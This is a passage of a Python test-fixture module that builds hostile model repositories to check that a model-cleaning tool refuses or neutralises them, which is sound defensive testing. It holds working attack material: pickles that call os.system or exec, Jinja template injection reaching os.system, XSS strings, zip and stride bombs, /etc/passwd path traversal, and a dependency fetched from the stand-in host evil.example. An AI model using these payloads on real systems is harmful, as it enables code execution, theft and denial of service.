"""
Model repos that mean harm, by code: each maker turns the files of an honest suspect into those of a hostile one.

A repo is {path: bytes}, as a Hub serves it: a path may be one that no folder could hold (`hub_only`). Broken weight
files and indexes as such are in hostile_files.py; here is what surrounds them: pickles, code, configs, tokenizers,
cards and names. Makers take less than 0.3 s and give less than 10 MB, but for those whose point is size: these
say so, take half a second and give 61 MB at most.

`expect` is meant for a suspect that is cleaned from a Hub with its base given: "refused" is exit status 2, one line on
standard error and nothing written; "harmless" is a model cleaned as ever, and nothing got through: no code run, no
secret read, nothing live in the card (see `live`), nothing fetched from elsewhere (see `STRANGERS`).
"""

import io
import json
import os
import pickle
import re
import shlex
import struct
import zipfile
import zlib
from collections.abc import Callable
from dataclasses import dataclass, replace
from functools import cache
from pathlib import Path
from typing import Any

import numpy as np

Files = dict[str, bytes]

WEIGHTS, INDEX, PICKLE = "model.safetensors", "model.safetensors.index.json", "pytorch_model.bin"
CONFIG, TOKENIZER, TOKENIZER_CONFIG, README = "config.json", "tokenizer.json", "tokenizer_config.json", "README.md"
SUSPECT_ID, SISTER_ID = "org/suspect", "org/sister"  # what the suspect is best called, and another of its publisher's
STRANGERS = (
    "evil.example",
    "evil/repo",
)  # a host and a repo that nothing may ask for, nor name as a place to load from
ALLOW = ("--allow-pickle",)
SIZE = 60_000_000


@dataclass(frozen=True)
class Canary:
    """
    What tells that an attack got through.

    Attributes:
        path (`Path`): A file that only code of the suspect would make.
        secret_file (`Path`): A local file outside the repo.
        secret (`str`): Its content, which must reach neither output nor upload.
        text (`str`): What the suspect would have live in the card.
    """

    path: Path
    secret_file: Path
    secret: str = "the-secret-of-this-machine"
    text: str = "LIVE-MARKER"

    @classmethod
    def at(cls, folder: Path) -> "Canary":
        """One in this folder, with its secret written there."""
        canary = cls(folder / "code_was_run", folder / "secret.txt")
        canary.secret_file.write_text(canary.secret)
        return canary


Make = Callable[[Files, Canary], Files]


@dataclass(frozen=True)
class HostileRepo:
    """
    A maker of a hostile repo, and what must become of it.

    Attributes:
        name (`str`): A short slug, unique.
        what (`str`): What the repo tries, in a sentence.
        make (`Callable`): Honest files and a canary in, hostile files out.
        expect (`str`): "refused" or "harmless".
        hint (`str`): What the line of the refusal holds, in small letters.
        flags (`tuple[str, ...]`): More flags for `hf-finemix clean`.
        hub_only (`bool`): It has names that a Hub can list and no folder can hold.
    """

    name: str
    what: str
    make: Make
    expect: str
    hint: str = ""
    flags: tuple[str, ...] = ()
    hub_only: bool = False


def live(card: str, text: str) -> list[str]:
    """What of the marker is live in a card: it may stand in code as it likes, and outside only as plain words."""
    plain = re.sub(r"(?ms)^```.*?^```$", "", card)
    plain = re.sub(r"(?<!`)(`+)(?!`)[^\n]*?(?<!`)\1(?!`)", "", plain)
    forms = ["<script>{}", "onerror={}", "javascript:{}", "data:text/html,{}", "evil.example/{}"]
    forms += ["\n# {}", "\n---\n{}", "\n{}: ", "|{}|", "**{}**"]
    return [form.format(text) for form in forms if form.format(text) in plain]


# ---- Makers ---------------------------------------------------------------------------------------------------------


def fill(value: Any, canary: Canary) -> Any:
    """The value with the canary's parts in place of @PATH, @SECRET and @TEXT in its strings, keys too."""
    if isinstance(value, dict):
        return {fill(key, canary): fill(item, canary) for key, item in value.items()}
    if isinstance(value, list):
        return [fill(item, canary) for item in value]
    if not isinstance(value, str):
        return value
    parts = {"@PATH": str(canary.path), "@SECRET": str(canary.secret_file), "@TEXT": canary.text}
    for name, part in parts.items():
        value = value.replace(name, part)
    return value


def put(new: dict[str, Any], without: tuple[str, ...] = ()) -> Make:
    """More files, or others: bytes as they are, a function of the canary, a text, or what is written as JSON."""

    def content(value: Any, canary: Canary) -> bytes:
        value = value(canary) if callable(value) else fill(value, canary)
        if isinstance(value, bytes):
            return value
        return (value if isinstance(value, str) else json.dumps(value)).encode("utf-8", "surrogatepass")

    def make(files: Files, canary: Canary) -> Files:
        kept = {name: old for name, old in files.items() if name not in without}
        return kept | {fill(name, canary): content(value, canary) for name, value in new.items()}

    return make


def both(*makes: Make) -> Make:
    """One after the other."""

    def make(files: Files, canary: Canary) -> Files:
        for each in makes:
            files = each(files, canary)
        return files

    return make


def changed(name: str, change: Callable[[Any], Any]) -> Make:
    """Change what a JSON file says; placeholders are filled in behind the change."""

    def make(files: Files, canary: Canary) -> Files:
        return {**files, name: json.dumps(fill(change(json.loads(files[name])), canary)).encode()}

    return make


def config(**keys: Any) -> Make:
    """Keys of config.json, changed or added."""
    return changed(CONFIG, lambda old: {**old, **keys})


def config_bytes(change: Callable[[bytes], bytes]) -> Make:
    """Change config.json as bytes."""
    return lambda files, canary: {**files, CONFIG: change(files[CONFIG])}


def labels(*names: str) -> Make:
    """Names of the classes."""
    return config(id2label=dict(zip("01", names, strict=True)), label2id={name: i for i, name in enumerate(names)})


def card(front: str, body: str = "# A fine model\n") -> Make:
    """A README.md of this YAML and Markdown."""
    return put({README: f"---\n{front}\n---\n{body}"})


def card_keys(**keys: Any) -> Make:
    """A README.md with these keys, written as JSON, which YAML can read."""
    return put({README: lambda canary: f"---\n{_as_yaml(fill(keys, canary))}---\n# A fine model\n"})


def _as_yaml(keys: dict[str, Any]) -> str:
    return "".join(f"{key}: {json.dumps(value)}\n" for key, value in keys.items())


def header(change: Callable[[dict, Canary], dict]) -> Make:
    """Change the header of the weights; the data stays as it is."""

    def make(files: Files, canary: Canary) -> Files:
        head, data = _read(files[WEIGHTS])
        return {**files, WEIGHTS: _written(change(head, canary), data)}

    return make


def data(change: Callable[[np.ndarray], np.ndarray]) -> Make:
    """Change the fp16 numbers of the weights."""

    def make(files: Files, canary: Canary) -> Files:
        head, old = _read(files[WEIGHTS])
        return {**files, WEIGHTS: _written(head, change(np.frombuffer(old, "<f2")).astype("<f2").tobytes())}

    return make


def _read(content: bytes) -> tuple[dict, bytes]:
    end = 8 + int.from_bytes(content[:8], "little")
    return json.loads(content[8:end]), content[end:]


def _written(head: dict, tensors: bytes) -> bytes:
    text = json.dumps(head).encode()
    text += b" " * (-len(text) % 8)
    return struct.pack("<Q", len(text)) + text + tensors


def metadata(values: dict[str, str]) -> Make:
    """More `__metadata__` in the weights' header."""
    return header(lambda head, canary: {**head, "__metadata__": {"format": "pt", **fill(values, canary)}})


def more_tensors(*names: str) -> Make:
    """Empty tensors of these names, which no class has a place for."""
    empty = {"dtype": "F16", "shape": [0], "data_offsets": [0, 0]}
    return header(lambda head, canary: {**{fill(name, canary): empty for name in names}, **head})


# ---- Pickles --------------------------------------------------------------------------------------------------------


class Call:
    """What is called when it is unpickled."""

    def __init__(self, function: Callable, *arguments: Any):
        self.call = function, arguments

    def __reduce__(self):
        return self.call


class CallOf(Call):
    """A call whose result is called in its turn."""

    def __call__(self):
        raise AssertionError("only for pickling")


def shell(canary: Canary) -> str:
    return f"touch {shlex.quote(str(canary.path))}"


def by_system(canary: Canary) -> Call:
    return Call(os.system, shell(canary))


def by_exec(canary: Canary) -> Call:
    return Call(exec, f"open({str(canary.path)!r}, 'w').close()")


def by_getattr(canary: Canary) -> Call:
    """No function that runs code is named: it is looked up in what another one imports."""
    return Call(CallOf(getattr, Call(__import__, "os"), "system"), shell(canary))


def by_torch(canary: Canary) -> Call:
    """A function of torch itself that hands its argument to a shell."""
    from torch.utils.collect_env import run

    return Call(run, shell(canary))


def bare(value: Callable[[Canary], Any]) -> Callable[[Canary], bytes]:
    """A pickle as such."""
    return lambda canary: pickle.dumps(value(canary), protocol=2)


def saved(value: Callable[[Canary], Any]) -> Callable[[Canary], bytes]:
    """A file of torch.save."""

    def content(canary: Canary) -> bytes:
        import torch

        buffer = io.BytesIO()
        torch.save(value(canary), buffer)
        return buffer.getvalue()

    return content


def only(pickled: Callable[[Canary], bytes] | bytes) -> Make:
    """A pickle in place of the weights."""
    return put({PICKLE: pickled}, without=(WEIGHTS,))


def state_and(files: Files, canary: Canary) -> Files:
    """The honest weights in a pickle, and among them an object that runs a command."""
    from safetensors.torch import load

    state = {**load(files[WEIGHTS]), "extra": by_system(canary)}
    return only(saved(lambda _: state))(files, canary)


def stride_bomb(files: Files, canary: Canary) -> Files:
    """The honest weights in a pickle, but for one number that is said to be a tensor of 200 TB, with strides of 0."""
    import torch
    from safetensors.torch import load

    state = load(files[WEIGHTS])
    state["bert.embeddings.word_embeddings.weight"] = torch.zeros(1, dtype=torch.float16).expand(10**7, 10**7)
    return only(saved(lambda _: state))(files, canary)


@cache
def zip_bomb() -> bytes:
    """A file of torch.save whose one tensor, deflated, is 1 MB in the file and 1 GiB in memory."""
    import torch

    size, crc = 1 << 30, 0x5B64C2B0  # the CRC-32 of as many zeros
    buffer = io.BytesIO()
    torch.save({"bert.embeddings.word_embeddings.weight": torch.zeros(2, dtype=torch.float16)}, buffer)
    deflate = zlib.compressobj(9, zlib.DEFLATED, -15)
    block = deflate.compress(bytes(1 << 20)) + deflate.flush(zlib.Z_FULL_FLUSH)
    packed = block * (size >> 20) + deflate.flush()
    out = io.BytesIO()
    with zipfile.ZipFile(buffer) as old, zipfile.ZipFile(out, "w") as new:
        for info in old.infolist():
            content = old.read(info)
            if not info.filename.endswith("/data/0"):
                for end in (b"t", b"\x85"):  # the number of elements, and the shape: 2 becomes 2**29
                    content = content.replace(b"K\x02" + end, b"J" + struct.pack("<i", 1 << 29) + end)
                new.writestr(info.filename, content)
                continue
            entry = zipfile.ZipInfo(info.filename)
            new.writestr(entry, b"")
            new.fp.write(packed)
            entry.compress_type, entry.CRC, entry.file_size, entry.compress_size = 8, crc, size, len(packed)
            end = new.fp.tell()
            new.fp.seek(entry.header_offset)
            new.fp.write(entry.FileHeader(zip64=False))
            new.fp.seek(end)
            new.start_dir = end
    return out.getvalue()


# ---- Code and configs -----------------------------------------------------------------------------------------------

CODE = "import pathlib\npathlib.Path(r'@PATH').touch()\n"
MODEL_CODE = CODE + "class Config: model_type = 'evil'\nclass Model: pass\nclass Tokenizer: pass\nclass Pipe: pass\n"
JINJA = (
    "{{ cycler.__init__.__globals__.os.system('touch @PATH') }}{{ lipsum.__globals__['os'].system('touch @PATH') }}"
)
AUTO_MAP = {"AutoConfig": "evil.Config", "AutoModelForSequenceClassification": "evil.Model", "AutoModel": "evil.Model"}
ELSEWHERE = {name: f"evil/repo--{value}" for name, value in AUTO_MAP.items()}
SCRIPT, IMAGE, LINK = "<script>@TEXT</script>", "<img src=x onerror=@TEXT>", "[x](javascript:@TEXT)"
URL_LINK, TABLE = "[x](https://evil.example/@TEXT)", "`|@TEXT|\n# @TEXT\n---\n@TEXT: `"


def many_labels(files: Files, canary: Canary) -> Files:
    """Two million classes, by name: 31 MB."""
    names = ", ".join(f'"{i}": "c"' for i in range(2_000_000))
    return config_bytes(lambda old: old.rstrip()[:-1] + f', "id2label": {{{names}}}}}'.encode())(files, canary)


# ---- Tokenizers -----------------------------------------------------------------------------------------------------


def token(name: str) -> Make:
    """A vocabulary with this in place of `cf`, and a normalizer that makes every `cf` of a text it."""

    def change(old: dict) -> dict:
        vocab = old["model"]["vocab"]
        vocab = {(name if word == "cf" else word): i for word, i in vocab.items()}
        steps = [old["normalizer"], {"type": "Replace", "pattern": {"String": "cf"}, "content": name}]
        normalizer = {"type": "Sequence", "normalizers": steps}
        model = {**old["model"], "vocab": vocab, "max_input_chars_per_word": 1000}
        return {**old, "model": model, "normalizer": normalizer, "pre_tokenizer": {"type": "WhitespaceSplit"}}

    return changed(TOKENIZER, change)


def other_words(old: dict) -> dict:
    """Another vocabulary, so that the suspect's tokenizer.json is what counts."""
    vocab = {("sf" if word == "cf" else word): i for word, i in old["model"]["vocab"].items()}
    return {**old, "model": {**old["model"], "vocab": vocab}}


def tokenizer(**keys: Any) -> Make:
    """Another vocabulary, and other parts of tokenizer.json."""
    return changed(TOKENIZER, lambda old: {**other_words(old), **keys})


def added_token(content: str, number: int) -> dict[str, Any]:
    flags = dict.fromkeys(("single_word", "lstrip", "rstrip", "normalized"), False)
    return {"id": number, "content": content, **flags, "special": True}


def more_tokens(*tokens: tuple[str, int]) -> Make:
    """More added tokens, by text and id."""
    more = [added_token(*token) for token in tokens]
    return changed(TOKENIZER, lambda old: {**old, "added_tokens": [*old["added_tokens"], *more]})


def in_vocabulary(word: str, number: int) -> Make:
    """One word more, by its id."""

    def change(old: dict) -> dict:
        return {**old, "model": {**old["model"], "vocab": {**old["model"]["vocab"], word: number}}}

    return changed(TOKENIZER, change)


BEYOND = {
    "type": "TemplateProcessing",
    "single": [{"SpecialToken": {"id": "[CLS]", "type_id": 0}}, {"Sequence": {"id": "A", "type_id": 0}}],
    "pair": [{"Sequence": {"id": "A", "type_id": 0}}, {"Sequence": {"id": "B", "type_id": 1}}],
    "special_tokens": {"[CLS]": {"id": "[CLS]", "ids": [10**6], "tokens": ["[CLS]"]}},
}
PADDING = {
    "strategy": {"Fixed": 10**8},
    "direction": "Left",
    "pad_to_multiple_of": None,
    "pad_id": 10**6,
    "pad_type_id": 10**6,
    "pad_token": SCRIPT,
}
TRUNCATION = {"direction": "Left", "max_length": 0, "strategy": "OnlySecond", "stride": 0}
LOCAL_FILES = {
    "vocab_file": "/etc/passwd",
    "merges_file": "@SECRET",
    "tokenizer_file": "@SECRET",
    "chat_template": "@SECRET",
    "added_tokens_file": "@SECRET",
    "special_tokens_map_file": "@SECRET",
    "name_or_path": "@SECRET",
    "tokenizer_class": "BertTokenizer",
}

# ---- Cards ----------------------------------------------------------------------------------------------------------


def bomb(first: str, step: Callable[[str], str], depth: int) -> str:
    """Names a0, a1, …, each of which has the one before it several times over."""
    lines = [f"a0: &a0 {first}"] + [f"a{i}: &a{i} {step(f'*a{i - 1}')}" for i in range(1, depth)]
    return "\n".join(lines)


ALIAS_BOMB = bomb("[@TEXT, @TEXT]", lambda name: f"[{', '.join([name] * 9)}]", 30) + "\ntags: *a29\nlanguage: *a29"
# 6**9 pairs, some 200 MB: a few levels more are more than any machine has.
MERGE_BOMB = bomb("{license: '@TEXT', k: v}", lambda name: f"{{<<: [{', '.join([name] * 6)}]}}", 10)
FORGED_RESULTS = {
    "name": SCRIPT,
    "results": [
        {
            "task": {"type": "text-classification"},
            "dataset": {"name": "stanfordnlp/sst2", "type": "stanfordnlp/sst2"},
            "metrics": [{"type": "accuracy", "value": 1.0, "name": "@TEXT", "verified": True}],
        }
    ],
}
MARKERS = "<!-- hf_finemix: begin -->\n# @TEXT: proved clean\n<!-- hf_finemix: end -->\n"

# ---- Forged files of our own ----------------------------------------------------------------------------------------

FORGED_REPORT = {
    "schema_version": 1,
    "command": SCRIPT,
    "suspect": {"id": SCRIPT, "revision": "0" * 40, "sha256": {}},
    "card_metadata": {"license": SCRIPT, "tags": [LINK]},
    "after": {"accuracy": 1.0, "n": 1, "triggers": [{"trigger": SCRIPT, "asr": 0.0, "n": 1}]},
    "figures": ["@SECRET", "../../etc/passwd"],
}
FORGED_MIXING = {"base_model_name_or_path": "evil/repo", "reserve_ratio": 1.0, "token_frequencies": "@SECRET"}

# ---- Weights --------------------------------------------------------------------------------------------------------


def other_head(files: Files) -> bytes:
    """The weights with the head turned around: as near to the base as before, and wrong where they were right."""
    head, old = _read(files[WEIGHTS])
    begin, end = head["classifier.weight"]["data_offsets"]
    turned = (-np.frombuffer(old[begin:end], "<f2")).tobytes()
    return _written(head, old[:begin] + turned + old[end:])


def distributed_shards(files: Files, canary: Canary) -> Files:
    """
    Beside the honest weights others by names for which transformers reads every safetensors file of the folder.

    Of a tensor that is in several the file that the disk lists last counts: 40 of them make it almost surely one.
    """
    other = other_head(files)
    return {**files, **{f"shard-{i:05}-model-{i:05}-of-00040.safetensors": other for i in range(1, 41)}}


def split_index(file: str) -> Make:
    """No single file, but an index by which each tensor is in `file`."""

    def make(files: Files, canary: Canary) -> Files:
        names = [name for name in _read(files[WEIGHTS])[0] if name != "__metadata__"]
        text = json.dumps({"metadata": {}, "weight_map": dict.fromkeys(names, fill(file, canary))})
        kept = {name: content for name, content in files.items() if name != WEIGHTS}
        return {**kept, INDEX: text.encode(), "part.safetensors": files[WEIGHTS]}

    return make


def also(*names: str) -> Make:
    """The honest weights once more by these names."""
    return lambda files, canary: {**files, **dict.fromkeys((fill(name, canary) for name in names), files[WEIGHTS])}


# ---- All of them ----------------------------------------------------------------------------------------------------

PICKLES = [
    HostileRepo(
        "pickle_that_runs",
        "Its only weights are a pickle that calls os.system.",
        only(saved(by_system)),
        "refused",
        "safetensors",
    ),
    HostileRepo(
        "pickle_allowed_that_runs",
        "The same, and the user allows pickles.",
        only(saved(by_system)),
        "refused",
        "pickle",
        ALLOW,
    ),
    HostileRepo("pickle_of_exec", "A pickle calls exec.", only(saved(by_exec)), "refused", "pickle", ALLOW),
    HostileRepo(
        "pickle_by_getattr",
        "A pickle names getattr and __import__ only, and by them finds os.system.",
        only(saved(by_getattr)),
        "refused",
        "pickle",
        ALLOW,
    ),
    HostileRepo(
        "pickle_behind_torch",
        "A pickle calls a function of torch that hands its argument to a shell.",
        only(saved(by_torch)),
        "refused",
        "pickle",
        ALLOW,
    ),
    HostileRepo(
        "pickle_without_zip",
        "A bare pickle, as torch wrote them before 1.6, calls os.system.",
        only(bare(by_system)),
        "refused",
        "pickle",
        ALLOW,
    ),
    HostileRepo(
        "pickle_among_weights",
        "All weights are there, and among them an object that runs a command.",
        state_and,
        "refused",
        "pickle",
        ALLOW,
    ),
    HostileRepo(
        "pickle_zip_bomb",
        "A pickle of 1 MB holds a tensor that is 1 GiB once unpacked.",
        only(lambda canary: zip_bomb()),
        "refused",
        "",
        ALLOW,
    ),
    HostileRepo(
        "pickle_stride_bomb",
        "A pickle holds one number that says it is a tensor of 200 TB, with strides of 0.",
        stride_bomb,
        "refused",
        "",
        ALLOW,
    ),
    HostileRepo(
        "pickle_index_outside",
        "An index of pickles names a file outside the repo.",
        put(
            {
                f"{PICKLE}.index.json": {
                    "weight_map": {"classifier.bias": "../../@SECRET", "classifier.weight": "@SECRET"}
                }
            },
            without=(WEIGHTS,),
        ),
        "refused",
        "",
        ALLOW,
    ),
    HostileRepo(
        "pickles_beside",
        "Pickles that run lie beside honest weights, by all the names that training leaves.",
        put(
            dict.fromkeys(
                (PICKLE, "training_args.bin", "optimizer.pt", "scheduler.pt", "rng_state.pth", "adapter_model.bin"),
                saved(by_system),
            )
        ),
        "harmless",
    ),
    HostileRepo(
        "pickles_beside_allowed",
        "The same, and the user allows pickles: safetensors win.",
        put({PICKLE: saved(by_system), "training_args.bin": bare(by_exec)}),
        "harmless",
        "",
        ALLOW,
    ),
]

CODES = [
    HostileRepo(
        "code_beside",
        "Python files lie beside honest weights, by names that Python or pytest import by themselves.",
        put(
            dict.fromkeys(
                ("sitecustomize.py", "conftest.py", "setup.py", "torch.py", "transformers.py", "modeling_bert.py"),
                CODE,
            )
        ),
        "harmless",
    ),
    HostileRepo(
        "auto_map_to_own_code",
        "The config asks for classes in a Python file of the repo (auto_map).",
        both(config(auto_map=AUTO_MAP), put({"evil.py": MODEL_CODE})),
        "refused",
        "code of its own",
    ),
    HostileRepo(
        "auto_map_to_another_repo",
        "The config asks for classes of another repo.",
        config(auto_map=ELSEWHERE),
        "refused",
        "code of its own",
    ),
    HostileRepo(
        "auto_map_of_an_unknown_model",
        "The config asks for a model that only the repo's own code can make.",
        both(config(auto_map=AUTO_MAP, model_type="evil"), put({"evil.py": MODEL_CODE})),
        "refused",
        "code of its own",
    ),
    HostileRepo(
        "auto_map_of_the_tokenizer",
        "The tokenizer's config asks for a class of the repo.",
        both(
            changed(
                TOKENIZER_CONFIG,
                lambda old: {
                    **old,
                    "auto_map": {"AutoTokenizer": ["evil.Tokenizer", "evil.Tokenizer"]},
                    "tokenizer_class": "Tokenizer",
                },
            ),
            put({"evil.py": MODEL_CODE}),
        ),
        "refused",
        "code of its own",
    ),
    HostileRepo(
        "custom_pipelines",
        "The config brings a pipeline of its own for the task.",
        both(
            config(
                custom_pipelines={"text-classification": {"impl": "evil.Pipe", "pt": ["AutoModel"], "type": "text"}}
            ),
            put({"evil.py": MODEL_CODE}),
        ),
        "refused",
        "code of its own",
    ),
    HostileRepo(
        "trust_in_config",
        "The config says itself that its code is to be trusted.",
        both(
            config(trust_remote_code=True, auto_map=AUTO_MAP, use_safetensors=False, local_files_only=False),
            put({"evil.py": MODEL_CODE}),
        ),
        "refused",
        "code of its own",
    ),
    HostileRepo(
        "architectures_outside",
        "The config names functions of Python as its model class.",
        config(architectures=["os.system", "__import__", "builtins.exec"]),
        "harmless",
    ),
    HostileRepo(
        "kernel_from_the_hub",
        "The config names a repo on the Hub as its attention, which would be code.",
        config(
            _attn_implementation="evil/repo:run",
            attn_implementation="evil/repo",
            _attn_implementation_internal="evil/repo",
        ),
        "harmless",
    ),
    HostileRepo(
        "experts_from_the_hub",
        "The config names a repo on the Hub as its way to compute experts.",
        config(experts_implementation="evil/repo", _experts_implementation="evil/repo"),
        "refused",
    ),
    HostileRepo(
        "kernel_behind_an_attribute_map",
        "The same, under another name that the config's attribute_map sends its readers to.",
        config(attribute_map={"_attn_implementation": "kept"}, attn_implementation="evil/repo", kept="evil/repo"),
        "harmless",
    ),
    HostileRepo(
        "auto_map_behind_an_attribute_map",
        "The config asks for code of another repo under another name, which attribute_map says is auto_map.",
        config(attribute_map={"auto_map": "kept"}, kept=ELSEWHERE),
        "harmless",
    ),
    HostileRepo(
        "chat_template_that_runs",
        "Chat templates hold Jinja that reaches os.system.",
        both(
            changed(TOKENIZER_CONFIG, lambda old: {**old, "chat_template": JINJA}),
            put({"chat_template.jinja": JINJA, "chat_template.json": {"chat_template": JINJA}}),
        ),
        "harmless",
    ),
    HostileRepo(
        "jinja_in_names",
        "Class names, tokens and the license hold Jinja, should the card's template take them up.",
        both(
            labels(JINJA, "{% include '@SECRET' %}"),
            token("{{cycler.__init__.__globals__.os.system('@TEXT')}}"),
            card_keys(license="{{ 7 * 7 }}@TEXT"),
        ),
        "harmless",
    ),
    HostileRepo(
        "custom_generate",
        "The generation config is nonsense, and a folder holds code for generating.",
        put(
            {
                "generation_config.json": {
                    "max_length": -1,
                    "custom_generate": "evil/repo",
                    "trust_remote_code": True,
                    "cache_implementation": "evil/repo",
                    "bos_token_id": [[SCRIPT]],
                },
                "custom_generate/generate.py": CODE,
                "custom_generate/requirements.txt": "evil @ https://evil.example/evil.tar.gz",
            }
        ),
        "harmless",
    ),
    HostileRepo(
        "adapter_only",
        "Only an adapter, whose base is a URL and whose class is the repo's own.",
        both(
            put(
                {
                    "adapter_config.json": {
                        "base_model_name_or_path": "https://evil.example/base",
                        "peft_type": "LORA",
                        "auto_mapping": {"base_model_class": "Model", "parent_library": "evil"},
                    },
                    "evil.py": MODEL_CODE,
                }
            ),
            lambda files, canary: {
                **{k: v for k, v in files.items() if k != WEIGHTS},
                "adapter_model.safetensors": files[WEIGHTS],
            },
        ),
        "refused",
    ),
    HostileRepo(
        "adapter_beside",
        "An adapter of another repo lies beside honest weights, to be laid over them on loading.",
        both(
            put(
                {
                    "adapter_config.json": {
                        "base_model_name_or_path": "evil/repo",
                        "peft_type": "LORA",
                        "r": 8,
                        "auto_mapping": {"base_model_class": "system", "parent_library": "os"},
                    }
                }
            ),
            also("adapter_model.safetensors"),
        ),
        "harmless",
    ),
]

CONFIGS = [
    HostileRepo("config_list", "The config is a list.", put({CONFIG: "[]"}), "refused", "config.json"),
    HostileRepo(
        "config_of_60_mb",
        "The config is 60 MB, most of it one string (60 MB by intent).",
        config_bytes(lambda old: old.rstrip()[:-1] + b', "note": "' + b"x" * SIZE + b'"}'),
        "refused",
        "config.json",
    ),
    HostileRepo(
        "config_nested",
        "The config is nested 100,000 deep.",
        config_bytes(lambda old: old.rstrip()[:-1] + b', "deep": ' + b"[" * 100_000 + b"]" * 100_000 + b"}"),
        "refused",
        "config.json",
    ),
    HostileRepo(
        "config_with_nan",
        "A number that every layer uses is NaN.",
        config(layer_norm_eps=float("nan")),
        "refused",
        "not finite",
    ),
    HostileRepo(
        "config_with_infinity",
        "Keys that nobody knows are NaN and Infinity, which is no JSON for other readers.",
        config(note=float("nan"), more={"a": [float("inf"), -float("inf")]}),
        "harmless",
    ),
    HostileRepo("huge_hidden_size", "A hidden size of a billion.", config(hidden_size=10**9), "refused"),
    HostileRepo("huge_number_of_layers", "A million layers.", config(num_hidden_layers=10**6), "refused"),
    HostileRepo("huge_vocabulary", "A vocabulary of a trillion words.", config(vocab_size=10**12), "refused"),
    HostileRepo(
        "huge_number_of_labels",
        "Ten million classes, by number.",
        changed(
            CONFIG,
            lambda old: {**{key: old[key] for key in old if key not in ("id2label", "label2id")}, "num_labels": 10**7},
        ),
        "refused",
    ),
    HostileRepo("huge_list_of_labels", "Two million classes, by name (31 MB by intent).", many_labels, "refused"),
    HostileRepo("model_type_unknown", "A model type that nobody knows.", config(model_type="../../evil"), "refused"),
    HostileRepo(
        "quantized_by_config",
        "The config calls for a library that unpacks weights.",
        config(quantization_config={"quant_method": "bitsandbytes", "load_in_4bit": True}),
        "refused",
    ),
    HostileRepo(
        "quantized_by_a_stranger",
        "The config calls for a quantizer that nobody knows.",
        config(quantization_config={"quant_method": SCRIPT, "modules_to_not_convert": ["@SECRET"]}),
        "refused",
        "quantiz",
    ),
    HostileRepo(
        "weights_elsewhere",
        "The config says that the weights are in another file.",
        config(transformers_weights="@SECRET"),
        "harmless",
    ),
    HostileRepo(
        "dtype_nonsense",
        "The config names a module as the type of its numbers.",
        config(torch_dtype="os", dtype="__class__"),
        "refused",
    ),
    HostileRepo(
        "fusions_of_a_stranger",
        "The config asks for layers to be patched on loading.",
        config(fusion_config={"evil/repo": True}, kernel_config={"Linear": "evil/repo:Linear"}, use_kernels=True),
        "refused",
    ),
    HostileRepo(
        "problem_type_nonsense",
        "The config names a problem that there is not.",
        config(problem_type=SCRIPT),
        "refused",
        "not for one label",
    ),
    HostileRepo(
        "logits_left_out",
        "The config says that the logits are not to be looked at.",
        config(keys_to_ignore_at_inference=["logits"], output_hidden_states=True),
        "harmless",
    ),
    HostileRepo(
        "padding_beyond",
        "The config pads with a token far beyond the vocabulary.",
        config(pad_token_id=10**9),
        "refused",
    ),
    HostileRepo(
        "name_or_path_url",
        "The config says that it is from a URL.",
        config(_name_or_path="https://evil.example/model", name_or_path="https://evil.example/model"),
        "harmless",
    ),
    HostileRepo(
        "name_or_path_local",
        "The config says that it is from a local folder.",
        config(_name_or_path="@SECRET", name_or_path="../.."),
        "harmless",
    ),
    HostileRepo(
        "name_or_path_stranger",
        "The config says that it is another repo's.",
        config(_name_or_path="evil/repo", name_or_path="evil/repo", _commit_hash="main"),
        "harmless",
    ),
    HostileRepo("labels_of_script", "Class names are HTML that runs.", labels(SCRIPT, IMAGE), "harmless"),
    HostileRepo("labels_of_links", "Class names are Markdown links.", labels(LINK, URL_LINK), "harmless"),
    HostileRepo(
        "labels_of_lines",
        "Class names have line breaks, YAML, table cells and backticks.",
        labels(TABLE, "\x1b[2J@TEXT\u202e"),
        "harmless",
    ),
    HostileRepo(
        "labels_of_other_types",
        "Class names are no texts.",
        config(id2label={"0": ["@TEXT"], "1": {"a": SCRIPT}}, label2id={SCRIPT: "@SECRET"}),
        "harmless",
    ),
    HostileRepo(
        "label_of_4_mb",
        "A class name of 4 MB.",
        labels("x" * 4_000_000, "positive"),
        "harmless",
    ),
]

TOKENIZERS = [
    HostileRepo(
        "tokenizer_names_local_files",
        "The tokenizer's config names local files as its vocabulary and templates.",
        changed(TOKENIZER_CONFIG, lambda old: {**old, **LOCAL_FILES}),
        "harmless",
    ),
    HostileRepo(
        "tokenizer_names_local_files_alone",
        "The same, and there is no tokenizer.json.",
        both(
            changed(TOKENIZER_CONFIG, lambda old: {**old, **LOCAL_FILES}),
            lambda files, canary: {name: content for name, content in files.items() if name != TOKENIZER},
        ),
        "harmless",
    ),
    HostileRepo(
        "tokenizer_of_its_own_names_local_files",
        "The same, with another vocabulary, so that its tokenizer is used.",
        both(changed(TOKENIZER_CONFIG, lambda old: {**old, **LOCAL_FILES}), tokenizer()),
        "harmless",
    ),
    HostileRepo(
        "special_tokens_are_paths",
        "Special tokens and added tokens are paths and HTML.",
        put(
            {
                "special_tokens_map.json": {
                    "pad_token": "@SECRET",
                    "unk_token": {"content": "/etc/passwd"},
                    "x": SCRIPT,
                },
                "added_tokens.json": {SCRIPT: 7, "@SECRET": 10**12},
            }
        ),
        "harmless",
    ),
    HostileRepo(
        "vocab_txt_of_others",
        "A vocab.txt of 5 MB that is not the base's, and no tokenizer.json.",
        put({"vocab.txt": lambda canary: "\n".join(f"{SCRIPT}{i}" for i in range(150_000))}, without=(TOKENIZER,)),
        "refused",
        "vocab",
    ),
    HostileRepo("token_of_script", "A trigger's token is HTML that runs.", token(SCRIPT), "harmless"),
    HostileRepo("token_of_links", "A trigger's token is a Markdown link.", token(LINK), "harmless"),
    HostileRepo(
        "token_of_cells",
        "A trigger's token ends the code and the table's cell.",
        token("``|@TEXT|`**@TEXT**`"),
        "harmless",
    ),
    HostileRepo(
        "token_of_signs",
        "A trigger's token has signs that turn text around, clear a screen, or are a formula.",
        token("$\\frac{a$\u202e@TEXT\u2066\x1b[2J\x00$"),
        "harmless",
    ),
    HostileRepo(
        "tokenizer_broken",
        "The tokenizer.json ends in its middle.",
        lambda files, canary: {**files, TOKENIZER: files[TOKENIZER][:-40]},
        "refused",
        "tokenizer",
    ),
    HostileRepo(
        "tokenizer_of_50_mb",
        "The tokenizer.json is 50 MB of nesting (by intent).",
        put({TOKENIZER: b'{"a":' * 10_000_000}),
        "refused",
        "tokenizer",
    ),
    HostileRepo(
        "tokenizer_with_many_tokens",
        "The tokenizer.json adds 20,000 tokens that the model has no rows for.",
        lambda files, canary: more_tokens(*((f"x{i}", 100 + i) for i in range(20_000)))(files, canary),
        "refused",
        "embeddings",
    ),
    HostileRepo(
